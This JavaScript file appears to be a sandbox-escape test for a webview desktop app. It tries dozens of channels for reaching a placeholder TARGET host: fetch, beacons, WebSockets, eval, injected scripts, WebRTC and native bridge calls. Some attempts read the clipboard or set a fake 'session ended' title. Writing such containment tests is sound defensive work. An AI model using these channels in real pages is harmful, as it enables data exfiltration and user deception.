// Everything a script can try without leaving the page. Each attempt stands
// alone: what throws has failed, and the next goes on.
const target = "TARGET";
const attempt = (f) => {
  try {
    const p = f();
    if (p && p.catch) p.catch(() => {});
  } catch {
    // refused: as it should be
  }
};
const add = (name, fields) => {
  const e = Object.assign(document.createElement(name), fields);
  document.body.append(e);
  return e;
};

attempt(() => fetch(`${target}/hit/fetch`));
attempt(() => fetch(`${target}/hit/fetch-no-cors`, { mode: "no-cors", method: "POST", body: "record" }));
attempt(() => fetch(`${target}/hit/fetch-keepalive`, { mode: "no-cors", keepalive: true }));
attempt(() => {
  const x = new XMLHttpRequest();
  x.open("GET", `${target}/hit/xhr`);
  x.send();
});
attempt(() => navigator.sendBeacon(`${target}/hit/beacon`, "record"));
attempt(() => new EventSource(`${target}/hit/event-source`));
attempt(() => new WebSocket(`${target.replace("http", "ws")}/hit/websocket`));
attempt(() => {
  new Image().src = `${target}/hit/new-image`;
});
attempt(() => import(`${target}/hit/import`));
attempt(() => new Worker(`${target}/hit/worker`));
attempt(() => new Worker(URL.createObjectURL(new Blob([`fetch("${target}/hit/blob-worker")`]))));
attempt(() => navigator.serviceWorker.register("/still.js"));
attempt(() => {
  document.body.insertAdjacentHTML("beforeend", `<img src="${target}/hit/inner-html">`);
});
attempt(() => {
  // biome-ignore lint/security/noGlobalEval: the attempt
  eval(`fetch("${target}/hit/eval")`);
});
attempt(() => add("script", { src: `${target}/hit/added-script` }));
attempt(() => add("script", { textContent: `fetch("${target}/hit/added-inline")` }));
attempt(() => {
  document.body.style.backgroundImage = `url(${target}/hit/style-script)`;
});
attempt(() => window.open(`${target}/hit/window-open`));
attempt(() => add("a", { href: `${target}/hit/link-blank`, target: "_blank", ping: `${target}/hit/ping` }).click());
attempt(() => {
  const f = add("form", { action: `${target}/hit/form-blank`, target: "_blank" });
  f.submit();
});
attempt(() => add("a", { href: `${target}/hit/download`, download: "record.txt" }).click());
attempt(() => add("a", { href: URL.createObjectURL(new Blob(["record"])), download: "record.txt" }).click());
attempt(() => {
  const pc = new RTCPeerConnection({ iceServers: [{ urls: `stun:${target.replace("http://", "")}` }] });
  pc.createDataChannel("x");
  return pc.createOffer().then((o) => pc.setLocalDescription(o));
});
attempt(() => {
  const doc = document.getElementById("blank").contentDocument;
  const s = doc.createElement("script");
  s.textContent =
    "window.webkit.messageHandlers.external.postMessage('C' + JSON.stringify({ name: 'main.Bound.Called', args: ['frame blank'], callbackID: 'x' }))";
  doc.body.append(s);
});
attempt(() => window.runtime.BrowserOpenURL(`${target}/hit/browser-open`));
attempt(() => window.runtime.ClipboardGetText().then(() => window.go.main.Bound.Called("clipboard")));
attempt(() => window.runtime.WindowSetTitle("Your session has ended"));
attempt(() => localStorage.setItem("record", "record"));
attempt(() => {
  // biome-ignore lint/suspicious/noDocumentCookie: the attempt
  document.cookie = "record=record; max-age=99999";
});
attempt(() => {
  indexedDB.open("record", 1).onupgradeneeded = (e) => e.target.result.createObjectStore("record").add("record", 1);
});
attempt(() => caches.open("record").then((c) => c.put("/record", new Response("record"))));
document.title = "tried";
